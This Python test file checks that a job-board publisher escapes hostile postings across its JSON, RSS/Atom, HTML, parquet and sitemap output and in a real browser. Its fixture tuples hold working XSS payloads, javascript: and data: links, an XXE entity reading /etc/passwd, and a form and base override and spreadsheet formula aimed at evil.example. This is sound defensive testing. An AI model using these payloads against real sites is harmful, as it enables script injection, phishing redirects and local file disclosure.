"""Hostile postings, carried through a night and a publication as any others: whatever format they come out in, they are words.

What boards answer is strangers' text. Here it tries to be scripts, links, styles, markup of every format, formulas, and to turn the
direction of writing; what is looked at is the folder that a website serves, by readers that others wrote, and in a real browser.
"""

import json
import re
from collections.abc import Callable, Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import feedparser
import lxml.etree
import pyarrow.parquet as pq
import pytest
from selectolax.lexbor import LexborHTMLParser

from extractors.posting import Place
from tests.feed_page.conftest import Explore
from tests.warehouse.factories import board, night, posting, read, run_night, verdict
from tests.warehouse.feed_reader import full_feed, invalid
from warehouse.database import open_work
from warehouse.publish import publish

SCRIPTS = (
    "</script><script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=document.title='owned'>",
    '"><style>*{display:none}</style>',
    "]]><script>document.title='owned'</script>",
    "<!--<script>document.title='owned'",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<a href=\"javascript:document.title='owned'\">apply</a>",
    "<iframe srcdoc=\"<script>parent.document.title='owned'</script>\"></iframe>",
    "<base href=https://evil.example/><form action=https://evil.example/><input name=q autofocus onfocus=document.title='owned'>",
    "\u202egnitsop\u202c \u2066hidden\u2069 \x00\x1b[31m\u2028\u2029\ufeff\ufffe",
    '=HYPERLINK("https://evil.example","pay")',
    "&lt;script&gt;document.title='owned'&lt;/script&gt;&#x3c;b&#x3e;",
    "<?xml-stylesheet href='https://evil.example/x.xsl'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
    "A" * 1_000_000,
)
LINKS = (
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    " javascript:alert(1)",
    "https://jobs.example/\u202eexe.gpj",
    'https://jobs.example/"onmouseover="document.title=1',
    "vbscript:msgbox(1)",
    "//evil.example/x",
    "https://jobs.example/" + "a" * 5_000,
    "https://user:password@jobs.example/1?a=1&b=<b>",
    "file:///etc/passwd",
    "http://[::1",
    "https://jobs.example/ok?a=1&b=2#c",
)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The folder that a night of such postings is published as."""
    folder = tmp_path_factory.mktemp("hostile")
    postings = []
    for number, nasty in enumerate(SCRIPTS):
        on = board("orchard", company=f"Orchard {nasty}", industry=f"farming {nasty[:60]}")
        made = posting(
            str(number),
            on=on,
            title=f"Product Manager {number} {nasty}",
            description=f"<p>Own {number}: {nasty}. You own it.</p>",
            job_location=(nasty, f"Leeds {nasty}"),
            places=(Place(city=nasty[:300], country="GB"),),
            applicant_location=(nasty,),
            salary_text=nasty,
            base_salary_min=50_000.0,
            salary_currency="GBP",
            salary_unit="YEAR",
            department=nasty,
            url=LINKS[number % len(LINKS)],
            apply_url=LINKS[(number + 5) % len(LINKS)],
        )
        postings.append(made)

    def quoting(found: Any) -> Any:
        said = verdict(found)
        quote = said.text[:200]
        return replace(said, evidence=(replace(said.evidence[0], quote=quote, end=len(quote)), said.evidence[1]))

    with closing(open_work(folder / "work.duckdb")) as connection:
        run_night(connection, "a", night(0), [read(*postings, on=board("orchard"))], classify=quoting)
        run_night(connection, "b", night(1), [read(*postings[1:], on=board("orchard"))], classify=quoting)
        publish(connection, folder / "published")
        # One of them closes, so that there is a page that says so.
        run_night(connection, "c", night(2), [read(*postings[1:], on=board("orchard"))], classify=quoting)
        return publish(connection, folder / "published").feed.root


def files(root: Path, pattern: str) -> Iterator[Path]:
    found = [path for path in root.rglob(pattern) if path.suffix not in (".gz", ".zst")]
    assert found, pattern
    return iter(found)


def test_every_role_is_told_and_as_the_schema_says(root: Path) -> None:
    assert invalid(root) == []
    roles = full_feed(root)
    assert len(roles) == len(SCRIPTS) - 1
    assert {link for role in roles.values() for link in (role["url"], role["apply_url"])} == {None, "https://jobs.example/ok?a=1&b=2#c"}


def test_no_json_holds_a_letter_that_opens_markup(root: Path) -> None:
    for path in files(root, "*.json"):
        if path.name != "schema.json":
            text = path.read_text(encoding="utf-8")
            json.loads(text)
            assert not re.search("[<>&\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]", text), path


def test_news_are_well_formed_and_hold_no_handler(root: Path) -> None:
    for path in (*files(root, "*.rss"), *files(root, "*.atom")):
        lxml.etree.fromstring(path.read_bytes(), lxml.etree.XMLParser(resolve_entities=False, no_network=True))
        read = feedparser.parse(path.read_bytes(), sanitize_html=False, resolve_relative_uris=False)
        assert not read.bozo, (path, read.get("bozo_exception"))
        for entry in read.entries:
            assert len(entry.title) < 1_000
            for content in (*(found.value for found in entry.get("content", ())), entry.get("summary", "")):
                harmless(content)
    for path in files(root, "feeds/*.json"):
        for item in json.loads(path.read_bytes())["items"]:
            harmless(item["content_html"])


def test_pages_of_roles_hold_one_script_of_data_and_no_handler(root: Path) -> None:
    for path in files(root, "roles/r*.html"):
        page = LexborHTMLParser(path.read_text(encoding="utf-8"))
        assert {script.attributes.get("type") for script in page.css("script")} <= {"application/ld+json"}
        for script in page.css("script"):
            assert json.loads(script.text())["@type"] == "JobPosting"
            script.decompose()
        [ladder] = page.css("svg") or [None]  # ours: five bars
        if ladder is not None:
            assert {node.tag for node in ladder.css("*")} <= {"svg", "path", "rect", "use"}
            ladder.decompose()
        harmless(page.html or "")
        assert len(path.read_bytes()) < 400_000


def test_the_bulk_file_holds_the_same_plain_words(root: Path) -> None:
    titles = pq.read_table(root / "feed" / "v2" / "roles.parquet")["title"].to_pylist()
    assert all(len(title) <= 300 and title.isprintable() for title in titles)


def test_sitemap_and_robots_name_our_own_pages_alone(root: Path) -> None:
    for path in (root / "sitemap.xml", *files(root, "sitemap-*.xml")):
        locations = lxml.etree.parse(path).iter("{*}loc")
        assert all(re.fullmatch(r"http://127\.0\.0\.1:8000/[\w./-]*", found.text or "") for found in locations)


def test_in_a_browser_nothing_runs_and_nobody_else_is_asked(root: Path, explore_at: Callable[..., Explore]) -> None:
    explore = explore_at(root)  # fails on a dialog, an error, a refused script, a request elsewhere
    page = explore.go()
    assert explore.found() == len(SCRIPTS) - 1
    for identifier in explore.ids():
        page.locator(f"#role-{identifier} button").first.click()
    page.wait_for_load_state("networkidle")
    assert page.title() != "owned"
    assert page.locator("#entries mark").count() >= len(SCRIPTS) - 1
    for path in sorted((root / "roles").glob("*.html")):
        page.goto(f"{explore.base}roles/{path.name}")
        assert page.title() != "owned"
        assert page.locator("body").is_visible()


def harmless(markup: str) -> None:
    tree = LexborHTMLParser(markup)
    assert not tree.css("script, style, iframe, object, embed, form, input, base, svg, math, meta[http-equiv=refresh]")
    for node in tree.css("*"):
        for name, value in node.attributes.items():
            assert not name.lower().startswith("on"), (node.tag, name)
            if name in ("href", "src", "action", "formaction", "srcset", "data"):
                assert re.match(r"https?://|\.\./|[\w./]+$|#", value or ""), value
